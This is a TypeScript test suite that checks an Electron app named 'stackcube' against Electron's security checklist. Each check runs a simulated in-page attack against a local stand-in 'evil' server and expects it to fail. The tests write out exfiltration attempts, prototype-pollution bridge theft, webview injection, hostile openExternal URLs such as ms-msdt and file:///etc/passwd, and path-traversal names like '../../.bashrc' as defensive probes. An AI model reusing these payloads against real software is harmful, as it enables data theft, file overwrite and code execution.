import { readFileSync, readlinkSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type LaunchedDesktop, launchDesktop } from '#tests/support/desktop/launch-desktop.ts'

/**
 * Electron's own security checklist, item by item and where possible by an attack: code that runs in the page, as
 * if it had got in, tries what it could do from there. The app runs as an ordinary user, so the sandbox is real.
 */
let desktop: LaunchedDesktop
let evil: Server
let evilUrl: string
const asked: string[] = []

beforeAll(async () => {
  evil = createServer((request, response) => {
    asked.push(request.url ?? '')
    const shared = request.url?.startsWith('/private') ? {} : { 'access-control-allow-origin': '*' }
    response.writeHead(200, { 'content-type': 'text/html', ...shared }).end('<h1>evil</h1>')
  })
  await new Promise<void>(resolve => evil.listen(0, '127.0.0.1', resolve))
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
  desktop = await launchDesktop({ sandboxed: true })
  await desktop.window.waitForSelector('form')
  await desktop.app.evaluate(({ shell }) => {
    const opened: string[] = []
    Object.assign(globalThis, { opened })
    shell.openExternal = async address => void opened.push(address)
  })
})

afterAll(async () => {
  await desktop?.close()
  evil.closeAllConnections()
  await new Promise(resolve => evil.close(resolve))
})

const inPage = <T>(work: string): Promise<T> => desktop.window.evaluate(work) as Promise<T>

const preferences = () =>
  desktop.app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>
    }
    return contents.getLastWebPreferences()
  })

/** The status that Linux tells of a process, by name. */
const statusOf = (pid: number, name: string): string =>
  new RegExp(`^${name}:\\s*(.*)$`, 'm').exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? ''

const processes = () =>
  desktop.app.evaluate(({ app, BrowserWindow }) => ({
    main: process.pid,
    page: BrowserWindow.getAllWindows()[0]?.webContents.getOSProcessId() ?? 0,
    all: app.getAppMetrics().map(({ pid, type, name }) => ({ pid, type, name })),
  }))

describe('Electron’s security checklist', () => {
  it('1. loads nothing but the app’s own files, over no network', async () => {
    const got = await inPage<string[]>(`(async () => {
      const attempts = {
        fetch: () => fetch('${evilUrl}/fetch').then(() => 'reached'),
        socket: () => new Promise((resolve, reject) => {
          const socket = new WebSocket('${evilUrl.replace('http', 'ws')}/socket')
          socket.onopen = () => resolve('reached')
          socket.onerror = () => reject()
        }),
        image: () => new Promise((resolve, reject) => {
          const image = new Image()
          image.onload = () => resolve('reached')
          image.onerror = () => reject()
          image.src = '${evilUrl}/image'
        }),
        beacon: async () => navigator.sendBeacon('${evilUrl}/beacon', 'x') ? 'sent' : Promise.reject(),
        script: () => import('${evilUrl}/script.js').then(() => 'reached'),
        prefetch: () => new Promise(resolve => {
          const link = document.createElement('link')
          Object.assign(link, { rel: 'prefetch', href: '${evilUrl}/prefetch' })
          document.head.append(link)
          setTimeout(() => resolve('asked for'), 500)
        }),
      }
      for (const attempt of Object.values(attempts)) await attempt().catch(() => undefined)
      return performance.getEntriesByType('resource').map(entry => entry.name).filter(name => name.startsWith('http'))
    })()`)
    expect(asked).toEqual([])
    expect(got.every(name => name.startsWith(evilUrl))).toBe(true)
  })

  it('2. gives the page nothing of Node', async () => {
    const names = [
      'require',
      'module',
      'process',
      'Buffer',
      'global',
      '__dirname',
      '__filename',
      'setImmediate',
    ]
    const found = await desktop.window.evaluate(all => all.filter(name => name in globalThis), names)
    expect(found).toEqual([])
    const prefs = await preferences()
    const inside = [prefs.nodeIntegration, prefs.nodeIntegrationInWorker, prefs.nodeIntegrationInSubFrames]
    expect(inside.map(value => value ?? false)).toEqual([false, false, false])
  })

  it('3. keeps the preload in a world of its own, which the page can’t reach into', async () => {
    const stolen = await inPage<unknown>(`(async () => {
      const seen = []
      const { apply, call, bind } = Function.prototype
      const post = MessagePort.prototype.postMessage
      Function.prototype.call = function (...args) { seen.push('call'); return Reflect.apply(call, this, args) }
      Object.defineProperty(Object.prototype, 'ipcRenderer', { set(value) { seen.push('ipc') }, configurable: true })
      Array.prototype.find = () => { seen.push('find') }
      stackcube.requestPort()
      await stackcube.openExternal('nonsense')
      Function.prototype.call = call
      delete Object.prototype.ipcRenderer
      return seen.filter(name => name !== 'call')
    })()`)
    expect(stolen).toEqual([])
    expect(await preferences()).toMatchObject({ contextIsolation: true })
    const frozen = await inPage<boolean>(`(() => {
      try { stackcube.openExternal = () => 'mine' } catch {}
      try { Object.defineProperty(window, 'stackcube', { value: null }) } catch {}
      return stackcube !== null && stackcube.openExternal('nonsense') instanceof Promise
    })()`)
    expect(frozen).toBe(true)
  })

  it('4. runs pages in Chromium’s sandbox, for a user who is not root', async () => {
    const { main, page, all } = await processes()
    expect(Number(statusOf(main, 'Uid').split(/\s/)[0])).not.toBe(0)
    const commands = all.map(({ pid }) => readFileSync(`/proc/${pid}/cmdline`, 'utf8'))
    expect(commands.filter(command => command.includes('--no-sandbox'))).toEqual([])
    // 2 is a filter of system calls; the page's own user namespace can't see the user's files.
    expect(statusOf(page, 'Seccomp')).toBe('2')
    expect(statusOf(page, 'NoNewPrivs')).toBe('1')
    expect(statusOf(main, 'Seccomp')).toBe('0')
    expect(Number(statusOf(page, 'CapEff'))).toBe(0)
    expect(readlinkSync(`/proc/${page}/ns/pid`)).not.toBe(readlinkSync(`/proc/${main}/ns/pid`))
    expect(readlinkSync(`/proc/${page}/ns/net`)).not.toBe(readlinkSync(`/proc/${main}/ns/net`))
    expect(await preferences()).toMatchObject({ sandbox: true })
  })

  it('5. refuses every permission that a page can ask for', async () => {
    const states = await inPage<Record<string, string>>(`(async () => {
      const names = ['geolocation', 'camera', 'microphone', 'notifications', 'midi', 'persistent-storage',
        'screen-wake-lock', 'clipboard-read', 'accelerometer', 'storage-access', 'window-management', 'local-fonts']
      const found = {}
      for (const name of names) found[name] = await navigator.permissions.query({ name }).then(p => p.state, () => 'unknown')
      const asks = {
        notification: () => Notification.requestPermission(),
        media: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted'),
        screen: () => navigator.mediaDevices.getDisplayMedia().then(() => 'granted'),
        usb: () => navigator.usb.requestDevice({ filters: [] }).then(() => 'granted'),
        serial: () => navigator.serial.requestPort().then(() => 'granted'),
        hid: () => navigator.hid.requestDevice({ filters: [] }).then(all => (all.length > 0 ? 'granted' : 'denied')),
        bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => 'granted'),
        place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), reject)),
        pointer: () => document.body.requestPointerLock().then(() => 'granted'),
        keys: () => navigator.keyboard.lock().then(() => 'granted'),
      }
      const late = () => new Promise(resolve => setTimeout(() => resolve('no answer'), 1500))
      for (const [name, ask] of Object.entries(asks))
        found[name] = await Promise.race([Promise.resolve().then(ask).catch(() => 'denied'), late()])
      return found
    })()`)
    const granted = Object.entries(states).filter(([, state]) => state === 'granted')
    expect(granted).toEqual([])
  })

  it('6. keeps other origins out of reach, also where somebody got rid of the policy', async () => {
    const { window } = desktop
    const debug = await window.context().newCDPSession(window)
    const withoutPolicy = async (enabled: boolean) => {
      await debug.send('Page.setBypassCSP', { enabled })
      await window.reload()
      await window.waitForSelector('form')
    }
    await withoutPolicy(true)
    const read = (path: string) =>
      inPage<string>(`fetch('${evilUrl}${path}').then(answer => answer.text(), () => 'kept apart')`)
    // What is open to all is read now, so only the origin stands before the rest.
    expect(await read('/open')).toContain('evil')
    expect(await read('/private')).toBe('kept apart')
    const framed = await inPage<string>(`new Promise(resolve => {
      const frame = document.createElement('iframe')
      frame.onload = () => { try { resolve(frame.contentWindow.document.body.innerText) } catch { resolve('kept apart') } }
      frame.src = '${evilUrl}/private'
      document.body.append(frame)
      setTimeout(() => resolve('not loaded'), 2000)
    })`)
    expect(framed).not.toContain('evil')
    await withoutPolicy(false)
    expect(await read('/open')).toBe('kept apart')
    asked.length = 0
  })

  it('9. and 10. know none of the experiments that a window could ask for', async () => {
    const names = await desktop.app.evaluate(async ({ BrowserWindow }) => {
      const namesIn = async (webPreferences: Electron.WebPreferences) => {
        const window = new BrowserWindow({
          show: false,
          webPreferences: { sandbox: true, ...webPreferences },
        })
        await window.loadURL('about:blank')
        const found = await window.webContents.executeJavaScript(
          `[...Object.getOwnPropertyNames(globalThis), ...Object.getOwnPropertyNames(Navigator.prototype)]`,
        )
        window.destroy()
        return found as string[]
      }
      return { plain: await namesIn({}), odd: await namesIn({ experimentalFeatures: true }) }
    })
    const experiments = names.odd.filter(name => !names.plain.includes(name))
    expect(experiments.length).toBeGreaterThan(0)
    const known = await inPage<string[]>(
      `[...Object.getOwnPropertyNames(globalThis), ...Object.getOwnPropertyNames(Navigator.prototype)]`,
    )
    expect(experiments.filter(name => known.includes(name))).toEqual([])
  })

  it('6. and 8. to 10. were asked for by nothing that made the window', async () => {
    const found = await preferences()
    expect(found).toMatchObject({ webSecurity: true })
    // From `app:` no mixed content exists that it could allow; what loads from the network is refused by 1.
    expect(found.allowRunningInsecureContent ?? false).toBe(false)
    expect(found.experimentalFeatures ?? false).toBe(false)
    expect(found.enableBlinkFeatures ?? '').toBe('')
    expect(found.navigateOnDragDrop ?? false).toBe(false)
  })

  it('7. has a policy under which nothing inline and nothing from text runs', async () => {
    const ran = await inPage<string[]>(`(async () => {
      const ran = []
      globalThis.ran = ran
      const script = document.createElement('script')
      script.textContent = "ran.push('inline')"
      document.body.append(script)
      const data = document.createElement('script')
      data.src = "data:text/javascript,ran.push('data')"
      document.body.append(data)
      const blob = document.createElement('script')
      blob.src = URL.createObjectURL(new Blob(["ran.push('blob')"], { type: 'text/javascript' }))
      document.body.append(blob)
      const button = document.createElement('button')
      button.setAttribute('onclick', "ran.push('handler')")
      document.body.append(button)
      button.click()
      const link = document.createElement('a')
      link.href = "javascript:ran.push('javascript:')"
      document.body.append(link)
      link.click()
      // Not from here, where a debugger may do what the policy forbids.
      setTimeout(() => {
      for (const [name, work] of [['eval', () => eval("ran.push('eval')")],
        ['Function', () => new Function("ran.push('Function')")()],
        ['timer', () => setTimeout("ran.push('timer')")],
        ['worker', () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => ran.push('worker')]])
        try { work() } catch {}
      })
      await new Promise(resolve => setTimeout(resolve, 500))
      return ran
    })()`)
    expect(ran).toEqual([])
  })

  it('11. and 12. know no webview, whatever its options', async () => {
    const guests = async () =>
      desktop.app.evaluate(
        ({ webContents }) =>
          webContents.getAllWebContents().filter(each => each.getType() === 'webview').length,
      )
    await inPage(`(() => {
      const view = document.createElement('webview')
      view.setAttribute('src', '${evilUrl}/webview')
      view.setAttribute('allowpopups', '')
      view.setAttribute('nodeintegration', '')
      view.setAttribute('webpreferences', 'sandbox=no,contextIsolation=no')
      document.body.append(view)
    })()`)
    await desktop.window.waitForTimeout(500)
    expect(await guests()).toBe(0)
    expect(await preferences()).toMatchObject({ webviewTag: false })
    expect(asked).toEqual([])
  })

  it('13. goes nowhere, by link, form, frame, redirect or refresh', async () => {
    await inPage(`(() => {
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: '${evilUrl}/form' })
      document.body.append(form)
      form.submit()
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = '0;url=${evilUrl}/refresh'
      document.head.append(meta)
      const frame = document.createElement('iframe')
      frame.src = '${evilUrl}/frame'
      document.body.append(frame)
      location.assign('${evilUrl}/assign')
    })()`)
    await desktop.window.waitForTimeout(700)
    expect(desktop.window.url()).toMatch(/^app:\/\/stackcube\/index\.html/)
    expect(asked).toEqual([])
  })

  it('14. opens no window', async () => {
    const opened = await inPage<boolean[]>(
      `['${evilUrl}/popup', 'about:blank', 'app://stackcube/index.html', ''].map(address => open(address) !== null)`,
    )
    expect(opened).toEqual([false, false, false, false])
    const windows = await desktop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)
    expect(windows).toBe(1)
    expect(asked).toEqual([])
  })

  it('15. hands the system no address but https and mailto', async () => {
    await desktop.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened.splice(0))
    const hostile = [
      ...[
        'file:///etc/passwd',
        'file://server/share/program.exe',
        'smb://server/share',
        'javascript:alert(1)',
      ],
      ...[
        'ms-msdt:/id',
        'vscode://file/etc/passwd',
        'http://example.com',
        'ftp://example.com',
        'data:text/html,x',
      ],
      ...['app://stackcube/index.html', '/etc/passwd', 'C:\\Windows\\System32\\calc.exe'],
    ]
    const answers = await desktop.window.evaluate(
      all => Promise.all(all.map(address => window.stackcube.openExternal(address))),
      hostile,
    )
    expect(answers.every(answer => answer === false)).toBe(true)
    const odd = await inPage<unknown[]>(
      `Promise.all([null, {}, [], 7, { toString: () => 'https://x.example' }].map(value => stackcube.openExternal(value).catch(() => false)))`,
    )
    expect(odd.every(answer => answer === false)).toBe(true)
    const opened = await desktop.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)
    expect(opened).toEqual([])
  })

  it('16. pins a current Electron', async () => {
    const { devDependencies } = JSON.parse(readFileSync('package.json', 'utf8')) as {
      devDependencies: Record<string, string>
    }
    expect(devDependencies.electron).toMatch(/^\d+\.\d+\.\d+$/)
    expect(Number(devDependencies.electron?.split('.')[0])).toBeGreaterThanOrEqual(45)
  })

  it('17. listens to few messages, and to none from another sender', async () => {
    const channels = await desktop.app.evaluate(({ ipcMain }) => ({
      told: ipcMain
        .eventNames()
        .map(String)
        .filter(name => name !== 'error'),
      asked: [...(ipcMain as unknown as { _invokeHandlers: Map<string, unknown> })._invokeHandlers.keys()],
    }))
    // Electron's own handlers are written in capitals.
    channels.asked = channels.asked.filter(name => name !== name.toUpperCase())
    expect(channels).toEqual({
      told: ['stackcube:request-port', 'stackcube:speak'],
      asked: [
        'stackcube:open-external',
        'stackcube:save-file',
        'stackcube:save-pdf',
        'stackcube:print',
        'stackcube:update-state',
        'stackcube:update-act',
      ],
    })
    // A frame inside of the page has no bridge of its own, and other windows are refused (see trusted-sender).
    const inFrame = await inPage<boolean>(`(() => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const found = frame.contentWindow !== null && 'stackcube' in frame.contentWindow
      frame.remove()
      return found
    })()`)
    expect(inFrame).toBe(false)
  })

  it('18. lives on app:, and reads no file by another way', async () => {
    expect(await inPage<string>('location.origin')).toBe('app://stackcube')
    const read = await inPage<string[]>(`(async () => {
      const found = []
      const tries = ['file:///etc/passwd', '/../../../../etc/passwd', '/%2e%2e/%2e%2e/main/main.js', '/..%5c..%5cmain.js',
        'app://other/index.html', 'app://stackcube/../main/main.js']
      for (const address of tries) {
        const image = new Image()
        await new Promise(resolve => { image.onload = () => resolve(found.push(address)); image.onerror = resolve; image.src = address })
        await import(address).then(() => found.push(address), () => undefined)
      }
      return found
    })()`)
    expect(read).toEqual([])
  })

  it('17. writes no file whose name leads anywhere, or of a kind that it does not make', async () => {
    await desktop.app.evaluate(({ dialog }) => {
      dialog.showSaveDialog = (async () => {
        throw new Error('must not ask')
      }) as unknown as typeof dialog.showSaveDialog
    })
    const answers = await inPage<string[]>(`Promise.all(
      ['../../.bashrc', '/etc/cron.d/evil.csv', 'a/b.csv', '..\\\\evil.csv', '.csv', 'evil.sh', 'evil.csv.exe', 'con\\n.csv', '', 7, null, {}]
        .flatMap(name => [stackcube.saveFile(name, new Uint8Array(3)), stackcube.savePdf(name)])
    )`)
    expect(answers).toEqual(answers.map(() => 'failed'))
  })

  it('20. shows the page ten things and no Electron', async () => {
    const bridge = await inPage<Record<string, string>>(
      `Object.fromEntries(Object.entries(stackcube).map(([name, value]) => [name, typeof value]))`,
    )
    expect(bridge).toEqual({
      platform: 'string',
      appVersion: 'string',
      requestPort: 'function',
      openExternal: 'function',
      saveFile: 'function',
      savePdf: 'function',
      print: 'function',
      speak: 'function',
      updateState: 'function',
      updateAct: 'function',
    })
  })
})
